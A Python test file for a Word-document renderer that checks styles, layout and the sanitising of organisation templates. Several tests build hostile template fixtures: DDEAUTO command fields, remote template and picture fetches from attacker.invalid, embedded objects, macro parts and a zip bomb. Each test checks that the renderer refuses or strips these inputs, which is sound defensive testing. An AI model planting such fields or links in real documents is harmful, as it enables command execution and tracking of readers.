"""A Word file says what the paper says, in real styles, and takes the styles of an organisation, but nothing else."""

import subprocess
import sys
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from typing import Any

import docx
import pytest
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml import OxmlElement, parse_xml
from docx.oxml.ns import nsdecls, qn
from docx.shared import Mm, RGBColor

from skillmatrix.errors import UserError
from skillmatrix.render.docx import render_docx
from skillmatrix.render.word.package import packed
from skillmatrix.view.blocks import Block, Cell, Column, Item, Items, Note, Paper, Paragraph, Section, Table

from .office_files import (
    CHART,
    EVERYTHING,
    HOSTILE,
    TABLE,
    hostile_paper,
    paper,
    parts,
    shown_texts,
    word_lines,
    word_rows,
    word_text,
)


def opened(*blocks: Block, reference: Path | None = None, **options: Any) -> Any:
    return docx.Document(BytesIO(render_docx(paper(*blocks, **options), reference)))


# What is on the page


def test_blocks_stand_in_the_styles_that_word_has_for_them() -> None:
    assert word_lines(render_docx(paper(*EVERYTHING))) == [
        ("Title", "Title"),
        ("Subtitle", "Subtitle"),
        ("Heading 1", "Heading"),
        ("Normal", "Lead. P"),
        ("Skillmatrix Note", "N"),
        ("List Bullet", "! L: I"),
        ("List Continue", "D"),
        ("List Continue", "E"),
        ("List Bullet", "J"),
        ("List Number", "K"),
        ("List Number", "M"),
        ("Skillmatrix Table", "Skill | Now | To go"),
        ("Skillmatrix Table", "SQL | 2 | ! 1 to go"),
        ("Skillmatrix Table", "Git | – | done"),
        ("Caption", "Levels"),
        ("Skillmatrix Table", "Skill | Now | To go"),
        ("Skillmatrix Table", "SQL | ■■□·· | 2 | ! 1 to go"),
        ("Skillmatrix Table", "Git |  | – | done"),
        ("Skillmatrix Note", "■ now  □ to go"),
        ("Skillmatrix Note", "Closing"),
    ]


def test_the_draft_mark_stands_above_the_title() -> None:
    draft = Section("draft", "", (Note("Draft."), Note("Please check.")))
    page = Paper("Job", "en", (), (draft, Section("s", "H", (Paragraph("P"),))))

    assert word_lines(render_docx(page))[:3] == [
        ("Skillmatrix Draft", "Draft."), ("Skillmatrix Draft", "Please check."), ("Title", "Job"),
    ]  # fmt: skip


def test_headings_have_the_level_that_the_paper_gives_them() -> None:
    page = Paper("T", "en", (), (Section("a", "Part", ()), Section("b", "Chapter", (), level=3)))

    assert word_lines(render_docx(page))[1:] == [("Heading 1", "Part"), ("Heading 2", "Chapter")]


def test_leads_are_strong_by_style_and_not_by_hand() -> None:
    (run,) = [run for found in opened(*EVERYTHING).paragraphs for run in found.runs if run.text == "Lead."]

    assert run.style.name == "Strong"
    assert run.bold is None


def test_states_have_styles_of_their_own_and_blocked_a_sign_as_well() -> None:
    table = opened(TABLE).tables[0]

    assert [table.cell(1, 2).text, table.cell(2, 2).text] == ["! 1 to go", "done"]
    assert table.cell(1, 2).paragraphs[0].runs[0].style.name == "Skillmatrix Blocked"
    assert table.cell(2, 2).paragraphs[0].runs[0].style.name == "Skillmatrix Muted"


def test_the_head_of_a_table_is_marked_and_repeated_on_every_page() -> None:
    tables = opened(TABLE, CHART).tables

    assert len(tables) == 2
    for table in tables:
        marks = [row._tr.xpath("./w:trPr/w:tblHeader") for row in table.rows]
        assert [bool(mark) for mark in marks] == [True, False, False]
        assert table._tbl.tblPr.find(qn("w:tblLook")).get(qn("w:firstRow")) == "1"


def test_screen_readers_hear_what_a_table_is_about() -> None:
    titles = [table._tbl.tblPr.find(qn("w:tblCaption")).get(qn("w:val")) for table in opened(TABLE, CHART).tables]

    assert titles == ["Heading", "Levels"]


def test_every_numbered_list_begins_with_one() -> None:
    first, second = Items((Item("a"), Item("b")), ordered=True), Items((Item("c"),), ordered=True)
    found = opened(first, Paragraph("between"), second)
    numbers = [p._p.pPr.numPr.numId.val for p in found.paragraphs if p.style.name == "List Number"]

    assert numbers[0] == numbers[1] != numbers[2]
    for number in set(numbers):
        start = found.part.numbering_part.element.xpath(f'./w:num[@w:numId="{number}"]//w:startOverride/@w:val')
        assert start == ["1"]


def test_two_tables_in_a_row_stay_two_and_a_page_ends_with_a_paragraph() -> None:
    page = Paper("T", "en", (), (Section("s", "H", (TABLE, TABLE)),))
    body = docx.Document(BytesIO(render_docx(page))).element.body

    tags = [child.tag.rpartition("}")[2] for child in body]
    assert tags == ["p", "p", "tbl", "p", "tbl", "p", "sectPr"]


@pytest.mark.parametrize(
    ("language", "tag", "foot"),
    [("de", "de-DE", "Seite 1 von 1"), ("en", "en-GB", "Page 1 of 1"), ("fr", "fr", "Page 1 of 1")],
)
def test_the_language_is_said_and_pages_are_numbered_in_it(language: str, tag: str, foot: str) -> None:
    found = opened(Paragraph("P"), language=language)
    footer = found.sections[0].footer

    assert [mark.get(qn("w:val")) for mark in found.styles.element.iter(qn("w:lang"))] == [tag]
    assert found.core_properties.language == tag
    assert "".join(text.text for text in footer._element.iter(qn("w:t"))) == foot
    assert [f.get(qn("w:instr")) for f in footer._element.iter(qn("w:fldSimple"))] == ["PAGE", "NUMPAGES"]


def test_the_page_is_a4() -> None:
    section = opened(Paragraph("P")).sections[0]

    assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)


def test_columns_fill_the_page_and_no_word_is_broken_that_fits() -> None:
    narrow = Table(
        (Column("Kompetenz"), Column("Zielstufe", "right"), Column("Bedeutung")),
        ((Cell("x" * 200), Cell("4", 4), Cell("ergänzend")),),
    )
    found = opened(narrow)
    section, table = found.sections[0], found.tables[0]
    widths = [column.width for column in table.columns]

    assert sum(widths) == pytest.approx(section.page_width - section.left_margin - section.right_margin, rel=0.01)
    assert min(widths[1:]) > Mm(15)
    assert [cell.width for cell in table.rows[1].cells] == widths


def test_columns_that_are_to_be_filled_in_have_room_for_handwriting() -> None:
    form = Table((Column("Who"), Column("Signature")), ((Cell("HR"), Cell("")),))
    row = opened(form).tables[0].rows[1]

    assert row.height >= Mm(10)
    assert row.cells[1].width >= Mm(40)


def test_the_properties_name_the_title_and_nobody() -> None:
    said = opened(Paragraph("P")).core_properties

    assert said.title == "Title"
    assert (said.author, said.last_modified_by, said.created, said.modified) == ("", "", None, None)
    assert len(docx.Document(BytesIO(render_docx(Paper("t" * 400, "de", (), ())))).core_properties.title) == 255


def test_the_same_paper_gives_the_same_bytes_in_every_process() -> None:
    code = "import sys; sys.path.insert(0, sys.argv[1]); from office_files import *; from skillmatrix.render.docx import render_docx; sys.stdout.buffer.write(render_docx(paper(*EVERYTHING)))"
    command = (sys.executable, "-c", code, str(Path(__file__).parent))
    runs = {
        subprocess.run(command, capture_output=True, check=True, env={"PYTHONHASHSEED": seed}).stdout for seed in "12"
    }

    assert runs == {render_docx(paper(*EVERYTHING))}


def test_nothing_of_the_program_that_wrote_it_stays_in_the_file() -> None:
    assert set(parts(render_docx(paper(*EVERYTHING)))) == {
        "[Content_Types].xml", "_rels/.rels", "docProps/core.xml", "word/document.xml", "word/_rels/document.xml.rels",
        "word/styles.xml", "word/numbering.xml", "word/settings.xml", "word/theme.xml", "word/fontTable.xml", "word/footer1.xml",
    }  # fmt: skip


# Texts of strangers


@pytest.mark.parametrize("text", HOSTILE)
def test_every_text_is_shown_whole_and_is_only_text(text: str) -> None:
    page = hostile_paper(text)
    data = render_docx(page)
    lines = "\n".join(line.replace(" | ", "\n") for _, line in word_lines(data))

    for shown in shown_texts(page):
        assert shown in lines
    content = parts(data)["word/document.xml"].decode()
    assert "fldSimple" not in content.replace("&lt;w:fldSimple", "")
    assert "instrText" not in content
    assert "hyperlink" not in content.lower().replace("=hyperlink(", "").replace("'=hyperlink", "")


def test_rows_in_are_rows_out() -> None:
    rows = tuple((Cell(text), Cell(str(at), at)) for at, text in enumerate(HOSTILE))
    (table,) = opened(Table((Column("a"), Column("b")), rows)).tables

    assert len(word_rows(table)) == len(rows) + 1


def test_text_from_right_to_left_says_so() -> None:
    hebrew, mixed = opened(Paragraph("שלום, עולם abc"), Paragraph("abc שלום")).paragraphs[3:5]

    assert hebrew._p.pPr.find(qn("w:bidi")) is not None
    assert [(run.text, run.font.rtl) for run in hebrew.runs] == [("שלום, עולם", True), (" abc", None)]
    assert mixed._p.pPr is None or mixed._p.pPr.find(qn("w:bidi")) is None
    assert [(run.text, run.font.rtl) for run in mixed.runs] == [("abc ", None), ("שלום", True)]


# The styles of an organisation


@pytest.fixture
def reference(tmp_path: Path) -> Callable[..., Path]:
    """Saves a Word file made by a function that changes python-docx's own template."""

    def make(change: Callable[[Any], object] = lambda _: None, name: str = "house.docx") -> Path:
        document = docx.Document()
        change(document)
        document.save(str(tmp_path / name))
        return tmp_path / name

    return make


def rewritten(path: Path, change: Callable[[dict[str, bytes]], object]) -> Path:
    content = parts(path.read_bytes())
    change(content)
    path.write_bytes(packed(content))
    return path


def house(document: Any) -> None:
    document.styles["Heading 1"].font.color.rgb = RGBColor(200, 0, 100)
    document.styles.add_style("Skillmatrix Table", WD_STYLE_TYPE.TABLE)
    document.sections[0].left_margin = Mm(50)
    document.sections[0].header.paragraphs[0].text = "ACME"
    document.sections[0].footer.paragraphs[0].text = "Managing director"
    document.add_paragraph("Text of the template")
    document.core_properties.author = "Somebody"


def test_the_styles_of_the_organisation_are_used(reference: Callable[..., Path]) -> None:
    found = opened(*EVERYTHING, reference=reference(house))

    (heading,) = [p for p in found.paragraphs if p.style.name == "Heading 1"]
    assert heading.style.font.color.rgb == RGBColor(200, 0, 100)
    ours = [s for s in found.styles if s.name == "Skillmatrix Table"]
    assert len(ours) == 1
    assert not ours[0].element.xpath(".//w:tblBorders")


def test_page_head_and_foot_are_those_of_the_organisation(reference: Callable[..., Path]) -> None:
    section = opened(*EVERYTHING, reference=reference(house)).sections[0]

    assert round(section.left_margin.mm) == 50
    assert section.header.paragraphs[0].text == "ACME"
    assert [p.text for p in section.footer.paragraphs] == ["Managing director"]


def test_a_reference_without_a_foot_gets_page_numbers(reference: Callable[..., Path]) -> None:
    footer = opened(Paragraph("P"), reference=reference()).sections[0].footer

    assert [f.get(qn("w:instr")) for f in footer._element.iter(qn("w:fldSimple"))] == ["PAGE", "NUMPAGES"]


def test_text_and_names_of_the_reference_are_gone(reference: Callable[..., Path]) -> None:
    data = render_docx(paper(Paragraph("P")), reference(house))

    content = b"".join(parts(data).values())
    assert b"Text of the template" not in content
    assert b"Somebody" not in content
    assert "P" in word_text(data)


def test_a_head_that_a_section_takes_from_the_one_before_stays(reference: Callable[..., Path]) -> None:
    def two_sections(document: Any) -> None:
        document.sections[0].header.paragraphs[0].text = "ACME"
        document.add_section()

    assert opened(Paragraph("P"), reference=reference(two_sections)).sections[0].header.paragraphs[0].text == "ACME"


def test_styles_that_the_reference_lacks_are_added_with_their_lists(reference: Callable[..., Path]) -> None:
    def bare(content: dict[str, bytes]) -> None:
        kept = '<w:style w:type="paragraph" w:default="1" w:styleId="Standard"><w:name w:val="Normal"/></w:style>'
        content["word/styles.xml"] = f"<w:styles {nsdecls('w')}>{kept}</w:styles>".encode()
        content["word/_rels/document.xml.rels"] = content["word/_rels/document.xml.rels"].replace(
            b"/numbering", b"/other"
        )

    path = rewritten(reference(), bare)
    found = opened(*EVERYTHING, reference=path)

    assert word_lines(render_docx(paper(*EVERYTHING), path)) == word_lines(render_docx(paper(*EVERYTHING)))
    assert found.styles["Title"].element.find(qn("w:basedOn")).get(qn("w:val")) == "Standard"
    numbering = found.part.numbering_part.element
    for name in ("List Bullet", "List Number"):
        number = found.styles[name].element.find(f".//{qn('w:numId')}").get(qn("w:val"))
        assert numbering.xpath(f'./w:num[@w:numId="{number}"]/w:abstractNumId')
    defined = [child.tag.rpartition("}")[2] for child in numbering]
    assert defined == sorted(defined)  # definitions first, as the format wants it


def test_a_list_style_without_marks_gets_ours(reference: Callable[..., Path]) -> None:
    def unmarked(document: Any) -> None:
        for name in ("List Bullet", "List Number"):
            properties = document.styles[name].element.pPr
            properties.remove(properties.numPr)

    found = opened(*EVERYTHING, reference=reference(unmarked))
    for name, kind in (("List Bullet", "bullet"), ("List Number", "decimal")):
        number = next(p for p in found.paragraphs if p.style.name == name)._p.pPr.numPr.numId.val
        numbering = found.part.numbering_part.element
        (marks,) = numbering.xpath(f'./w:num[@w:numId="{number}"]/w:abstractNumId/@w:val')
        assert numbering.xpath(f'./w:abstractNum[@w:abstractNumId="{marks}"]/w:lvl/w:numFmt/@w:val')[0] == kind


def test_a_document_as_libreoffice_writes_it_is_a_reference_as_well(reference: Callable[..., Path]) -> None:
    """It writes the names of styles with capitals, and says of none that it is the usual one."""

    def as_libreoffice(content: dict[str, bytes]) -> None:
        named = {"Normal": "Normal", "Heading1": "Heading 1", "Caption": "Caption", "Footer": "Footer"}
        styles = "".join(
            f'<w:style w:type="paragraph" w:styleId="{key}"><w:name w:val="{name}"/></w:style>'
            for key, name in named.items()
        )
        content["word/styles.xml"] = f"<w:styles {nsdecls('w')}>{styles}</w:styles>".encode()

    path = rewritten(reference(), as_libreoffice)

    assert word_lines(render_docx(paper(*EVERYTHING), path)) == word_lines(render_docx(paper(*EVERYTHING)))


def test_a_template_is_a_reference_as_well(reference: Callable[..., Path]) -> None:
    path = rewritten(reference(house, "house.dotx"), lambda content: content.update({
        "[Content_Types].xml": content["[Content_Types].xml"].replace(b"document.main+xml", b"template.main+xml")
    }))  # fmt: skip

    assert opened(Paragraph("P"), reference=path).sections[0].header.paragraphs[0].text == "ACME"


def test_the_link_to_the_template_of_the_reference_is_cut(reference: Callable[..., Path]) -> None:
    def attached(document: Any) -> None:
        settings = document.part._settings_part
        key = settings.relate_to(
            "http://attacker.invalid/t.dotm",
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
            is_external=True,
        )
        document.settings.element.insert(0, OxmlElement("w:attachedTemplate", {qn("r:id"): key}))
        document.part.relate_to(
            "http://attacker.invalid/x",
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/subDocument",
            is_external=True,
        )

    assert b"attacker" not in b"".join(parts(render_docx(paper(), reference(attached))).values())


def test_a_page_made_from_a_locked_reference_can_be_edited(reference: Callable[..., Path]) -> None:
    def locked(document: Any) -> None:
        document.settings.element.insert(0, OxmlElement("w:documentProtection", {qn("w:edit"): "readOnly"}))

    assert b"documentProtection" not in parts(render_docx(paper(), reference(locked)))["word/settings.xml"]


def test_an_address_at_the_foot_of_the_page_may_stay(reference: Callable[..., Path]) -> None:
    def linked(document: Any) -> None:
        document.sections[0].footer.paragraphs[0].text = "acme.example"
        document.sections[0].footer.part.relate_to(
            "https://acme.example",
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink",
            is_external=True,
        )

    assert opened(Paragraph("P"), reference=reference(linked)).sections[0].footer.paragraphs[0].text == "acme.example"


def related(kind: str, *, external: bool, target: str = "http://attacker.invalid/pixel.png") -> Callable[[Any], object]:
    def change(document: Any) -> None:
        header = document.sections[0].header
        header.paragraphs[0].text = "ACME"
        header.part.relate_to(
            target if external else document.part._styles_part,
            f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}",
            is_external=external,
        )

    return change


def field(instruction: str) -> Callable[[Any], object]:
    def change(document: Any) -> None:
        pieces = "".join(
            f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (instruction[:3], instruction[3:])
        )
        document.sections[0].header.paragraphs[0]._p.append(parse_xml(f"<w:p {nsdecls('w')}>{pieces}</w:p>"))

    return change


def inside(markup: str) -> Callable[[Any], object]:
    def change(document: Any) -> None:
        found = parse_xml(f"<w:p {nsdecls('w', 'r')} xmlns:v='urn:schemas-microsoft-com:vml'><w:r>{markup}</w:r></w:p>")
        document.sections[0].header.paragraphs[0]._p.addnext(found)

    return change


def simple(*instructions: str) -> Callable[[Any], object]:
    """A field that is cut into several."""
    return inside("".join(f"<w:fldSimple w:instr='{instruction}'/>" for instruction in instructions))


def nested(outer: str, inner: str) -> Callable[[Any], object]:
    """A field within the instruction of another one."""
    begin, end = "<w:fldChar w:fldCharType='begin'/>", "<w:fldChar w:fldCharType='end'/>"
    text = "<w:instrText>{}</w:instrText>".format
    return inside(f"{begin}{text(outer)}{begin}{text(inner)}{end}{end}")


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (related("image", external=True), "loads http://attacker.invalid/pixel.png from elsewhere"),
        (related("oleObject", external=False), "contains more than text and pictures"),
        (field("DDEAUTO cmd"), "a field that is not used (DDEAUTO)"),
        (field("INCLUDEPICTURE http://attacker.invalid/x.png"), "a field that is not used (INCLUDEPICTURE)"),
        (field("INCLUDE http://attacker.invalid/x"), "a field that is not used (INCLUDE)"),
        (field("RD http://attacker.invalid/x"), "a field that is not used (RD)"),
        (simple("INCLUDE", "PICTURE http://attacker.invalid/x.png"), "a field that is not used (INCLUDE)"),
        (nested("QUOTE", "DDE cmd"), "a field that is not used (DDE)"),
        (inside("<w:object/>"), "contains more than text and pictures (object)"),
        (inside("<w:altChunk r:id='rId9'/>"), "contains more than text and pictures (altChunk)"),
        (related("hyperlink", external=True, target="file://server/share"), "loads file://server/share from elsewhere"),
    ],
)
def test_a_reference_that_fetches_or_embeds_is_refused(reference: Callable[..., Path], change: Any, told: str) -> None:
    with pytest.raises(UserError) as refused:
        render_docx(paper(Paragraph("P")), reference(change))

    assert told in str(refused.value)
    assert "house.docx" in str(refused.value)


def test_an_old_drawing_loses_the_address_of_its_picture(reference: Callable[..., Path]) -> None:
    drawn = "<w:pict><v:shape style='width:9pt'><v:imagedata src='http://attacker.invalid/x.png'/></v:shape></w:pict>"
    data = render_docx(paper(Paragraph("P")), reference(inside(drawn)))

    assert b"attacker.invalid" not in b"".join(parts(data).values())
    assert b"width:9pt" in b"".join(parts(data).values())


def test_company_and_manager_of_the_reference_are_gone(reference: Callable[..., Path]) -> None:
    def signed(content: dict[str, bytes]) -> None:
        kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/extended-properties"
        content["docProps/app.xml"] = (
            b'<?xml version="1.0" encoding="UTF-8"?><Properties '
            b'xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
            b"<Manager>M. Boss</Manager><Company>Evil Ltd</Company></Properties>"
        )
        rels = content["_rels/.rels"]
        if kind not in rels:
            added = b'<Relationship Id="rId99" Type="' + kind + b'" Target="docProps/app.xml"/></Relationships>'
            content["_rels/.rels"] = rels.replace(b"</Relationships>", added)

    data = render_docx(paper(Paragraph("P")), rewritten(reference(), signed))

    content = b"".join(parts(data).values())
    assert b"Evil Ltd" not in content
    assert b"M. Boss" not in content


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_a_reference_in_another_encoding_is_refused(reference: Callable[..., Path], encoding: str) -> None:
    def recoded(content: dict[str, bytes]) -> None:
        text = content["word/styles.xml"].decode().partition("?>")[2]
        content["word/styles.xml"] = f"<?xml version='1.0' encoding='{encoding}'?><!DOCTYPE a>{text}".encode(encoding)

    with pytest.raises(UserError, match="is not written in UTF-8"):
        render_docx(paper(), rewritten(reference(), recoded))


def test_a_reference_that_declares_entities_is_refused(reference: Callable[..., Path]) -> None:
    def declared(content: dict[str, bytes]) -> None:
        content["word/styles.xml"] = b"<!DOCTYPE a [<!ENTITY b 'c'>]>" + content["word/styles.xml"].partition(b"?>")[2]

    with pytest.raises(UserError, match="declares its own XML entities"):
        render_docx(paper(), rewritten(reference(), declared))


def test_a_part_that_is_no_xml_by_name_cannot_be_one_by_type(reference: Callable[..., Path]) -> None:
    def disguised(content: dict[str, bytes]) -> None:
        kind = b'<Override PartName="/word/header9.png" ContentType="application/x+xml"/></Types>'
        content["[Content_Types].xml"] = content["[Content_Types].xml"].replace(b"</Types>", kind)

    with pytest.raises(UserError, match=r"a part that is not named \.xml claims to be XML"):
        render_docx(paper(), rewritten(reference(), disguised))


def test_a_small_archive_of_very_many_elements_is_not_read_as_xml(reference: Callable[..., Path]) -> None:
    def filled(content: dict[str, bytes]) -> None:
        content["word/styles.xml"] = content["word/styles.xml"].replace(
            b"</w:styles>", b"<w:a/>" * 100_001 + b"</w:styles>"
        )

    path = rewritten(reference(), filled)
    assert path.stat().st_size < 100_000
    with pytest.raises(UserError, match="has more than 100,000 elements"):
        render_docx(paper(), path)


def test_page_numbers_of_the_organisation_are_no_such_field(reference: Callable[..., Path]) -> None:
    assert render_docx(paper(Paragraph("P")), reference(field("PAGE")))


def bomb() -> bytes:
    return packed({"[Content_Types].xml": b"wordprocessingml", "word/document.xml": b"0" * 80_000_000})


BROKEN = {
    "text": (b"not a zip archive", "is not a Word file"),
    "old": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "is not a Word file (.docx), or it has a password"),
    "empty": (b"", "is not a Word file"),
    "zip": (packed({"a.txt": b"a"}), "is not a Word file"),
    "cut": (packed({"a.txt": b"a" * 2000})[:-40], "is not a Word file"),
    "many": (packed({f"{at}.xml": b"" for at in range(2001)}), "unpacks to more than a document needs"),
    "excel": (
        packed({"[Content_Types].xml": b"application/vnd.openxmlformats-officedocument.spreadsheetml"}),
        "is not a Word file",
    ),
    "hollow": (packed({"[Content_Types].xml": b"<Types>wordprocessingml</Types>"}), "a damaged Word file"),
}


@pytest.mark.parametrize("name", BROKEN)
def test_a_file_that_is_no_word_file_is_told_apart(tmp_path: Path, name: str) -> None:
    content, told = BROKEN[name]
    path = tmp_path / f"{name}.docx"
    path.write_bytes(content)

    with pytest.raises(UserError) as refused:
        render_docx(paper(), path)
    assert told in str(refused.value)


def test_an_archive_that_unpacks_without_end_is_not_unpacked(tmp_path: Path) -> None:
    path = tmp_path / "bomb.docx"
    path.write_bytes(bomb())
    assert path.stat().st_size < 200_000

    with pytest.raises(UserError, match="unpacks to more"):
        render_docx(paper(), path)


def test_a_huge_file_is_not_even_read(tmp_path: Path) -> None:
    path = tmp_path / "huge.docx"
    with path.open("wb") as file:
        file.truncate(17 * 1024 * 1024)

    with pytest.raises(UserError, match="more than 16 MB"):
        render_docx(paper(), path)


def test_a_reference_must_be_a_file(tmp_path: Path) -> None:
    for path in (tmp_path, tmp_path / "none.docx", Path("/dev/null")):
        with pytest.raises(UserError, match="is not a file"):
            render_docx(paper(), path)


def test_a_damaged_style_sheet_is_told_and_not_a_traceback(reference: Callable[..., Path]) -> None:
    for damage in (b"<w:styles", b"<a/>", b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"):
        path = rewritten(reference(), lambda content, damage=damage: content.update({"word/styles.xml": damage}))
        with pytest.raises(UserError, match=r"damaged|entities"):
            render_docx(paper(*EVERYTHING), path)


@pytest.mark.parametrize("name", ["word/vbaProject.bin", "word/VBAPROJECT.BIN"])
def test_macros_are_refused(reference: Callable[..., Path], name: str) -> None:
    with pytest.raises(UserError, match="macros"):
        render_docx(paper(), rewritten(reference(), lambda content: content.update({name: b"x"})))


def test_a_macro_document_under_another_name_is_refused(reference: Callable[..., Path]) -> None:
    def disguise(content: dict[str, bytes]) -> None:
        kind = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
        macro = b"application/vnd.ms-word.document.macroEnabled.main+xml"
        content["[Content_Types].xml"] = content["[Content_Types].xml"].replace(kind, macro)

    with pytest.raises(UserError, match="macros"):
        render_docx(paper(), rewritten(reference(), disguise))


def test_without_the_library_one_sentence_says_what_to_install() -> None:
    code = "import sys; sys.modules['docx'] = None\nfrom skillmatrix.render.docx import render_docx\nrender_docx(None)"
    done = subprocess.run((sys.executable, "-c", code), capture_output=True, check=False, encoding="utf-8")

    assert "UserError: Word files need python-docx: pip install 'python-docx>=1.2'" in done.stderr
